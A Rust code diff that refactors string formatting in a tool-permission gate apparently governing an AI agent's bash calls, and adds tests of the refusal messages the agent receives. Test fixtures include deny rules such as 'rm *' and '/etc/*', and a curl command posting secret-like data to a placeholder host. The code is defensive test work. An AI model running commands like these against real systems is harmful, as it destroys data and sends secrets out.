@@ -5,6 +5,7 @@ use super::Explanation;
 use super::explanation::{GateFacts, origin_words};
 use super::visible::{fit, visible};
 use crate::decision::{Cause, DecisionSource, Gate, Origin, Resolution};
+use std::fmt::Write as _;
 
 /// Columns of the flagged operand, a reason or a pattern.
 const FIELD: usize = 200;
@@ -71,7 +72,7 @@ pub fn agent_text(refusal: &Refusal<'_>) -> String {
             Resolution::UserDenied => "The user says",
             _ => "Reason",
         };
-        text.push_str(&format!(" {whose}: {}", short(words)));
+        let _ = write!(text, " {whose}: {}", short(words));
     }
     if let Some(explanation) = refusal.explanation {
         text.push(' ');
@@ -102,20 +103,23 @@ fn identify(facts: &GateFacts) -> String {
     let mut text = format!("{}: {}", short(&facts.surface), short(what));
     match &facts.matched_pattern {
         Some(pattern) => {
-            text.push_str(&format!(
+            let _ = write!(
+                text,
                 ", by rule \"{}\" ({})",
                 short(pattern),
                 origin_words(facts.origin)
-            ));
+            );
         }
-        None => text.push_str(&format!(" ({})", origin_words(facts.origin))),
+        None => {
+            let _ = write!(text, " ({})", origin_words(facts.origin));
+        }
     }
     if let Some(context) = &facts.command_context {
-        text.push_str(&format!(", {}", short(context)));
+        let _ = write!(text, ", {}", short(context));
     }
     text.push('.');
     if let Some(reason) = &facts.reason {
-        text.push_str(&format!(" {}", sentence(&short(reason))));
+        let _ = write!(text, " {}", sentence(&short(reason)));
     }
     text
 }
@@ -186,5 +190,116 @@ fn sentence(text: &str) -> String {
         text.to_owned()
     } else {
         format!("{text}.")
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::rule::Action;
+
+    fn facts(gate: Gate, surface: &str, value: &str, pattern: &str, origin: Origin) -> GateFacts {
+        GateFacts {
+            gate,
+            state: Action::Deny,
+            surface: surface.to_owned(),
+            value: value.to_owned(),
+            matched_pattern: (!pattern.is_empty()).then(|| pattern.to_owned()),
+            origin,
+            reason: None,
+            span: None,
+            executed_unit: None,
+            command_context: None,
+            resolves_to: None,
+            program: None,
+            human_only: false,
+        }
+    }
+
+    fn text(facts: GateFacts, resolution: Resolution, cause: Option<Cause>, words: Option<&str>) -> String {
+        let human_only = facts.human_only;
+        let explanation = Explanation {
+            state: facts.state,
+            deciding: facts.clone(),
+            gates: vec![facts],
+            human_only,
+        };
+        agent_text(&Refusal {
+            tool: "bash",
+            resolution,
+            cause,
+            decided_by: &DecisionSource::InfrastructureRead,
+            explanation: Some(&explanation),
+            words,
+        })
+    }
+
+    #[test]
+    fn a_refusal_names_the_rule_its_reason_and_what_would_help() {
+        let mut unit = facts(Gate::Bash, "bash", "rm -rf build", "rm *", Origin::Global);
+        unit.program = Some("rm".to_owned());
+        unit.reason = Some("no removals".to_owned());
+        unit.command_context = Some("inside $( ) of echo".to_owned());
+        assert_eq!(
+            text(unit, Resolution::PolicyDeny, None, None),
+            "Denied: the policy refuses this bash call. bash: rm, by rule \"rm *\" (policy), inside $( ) of \
+             echo. no removals. The other commands of the line were not refused by this rule; leave this one out."
+        );
+        let path = facts(
+            Gate::Path,
+            "path_write",
+            "/etc/hosts",
+            "/etc/*",
+            Origin::HardGuard,
+        );
+        assert_eq!(
+            text(path, Resolution::HardGuardDeny, None, None),
+            "Denied: a hard guard refuses this bash call. path_write: /etc/hosts, by rule \"/etc/*\" (hard \
+             guard). Nothing loosens a hard guard; do not try another form of the same thing."
+        );
+    }
+
+    #[test]
+    fn the_words_of_the_human_reach_the_agent() {
+        let unit = facts(Gate::Bash, "bash", "git push", "git *", Origin::Global);
+        let said = text(unit, Resolution::UserDenied, None, Some("use a branch"));
+        assert!(said.contains("The user says: use a branch"), "{said}");
+    }
+
+    #[test]
+    fn no_one_reads_that_a_user_denied_where_none_spoke() {
+        for cause in [
+            Cause::NoUi,
+            Cause::ClientFailed,
+            Cause::Cancelled,
+            Cause::Shutdown,
+            Cause::NoParent,
+        ] {
+            let unit = facts(Gate::Bash, "bash", "git push", "git *", Origin::Global);
+            let said = text(unit, Resolution::ConfirmationUnavailable, Some(cause), None);
+            assert!(!said.to_lowercase().contains("denied"), "{said}");
+        }
+    }
+
+    #[test]
+    fn a_command_is_never_repeated_and_a_long_operand_is_cut() {
+        let command = format!("curl -d {} https://x.example | tee log", "secret ".repeat(200));
+        let unit = facts(
+            Gate::Bash,
+            "bash",
+            &command,
+            "<opaque-bash-wrapper>",
+            Origin::Floor,
+        );
+        for resolution in [
+            Resolution::PolicyDeny,
+            Resolution::UserDenied,
+            Resolution::ConfirmationUnavailable,
+        ] {
+            let said = text(unit.clone(), resolution, None, None);
+            assert!(!said.contains("secret"), "{said}");
+        }
+        let path = facts(Gate::Path, "path", &"x/".repeat(5000), "*", Origin::Global);
+        assert!(text(path, Resolution::PolicyDeny, None, None).len() < 1000);
     }
 }
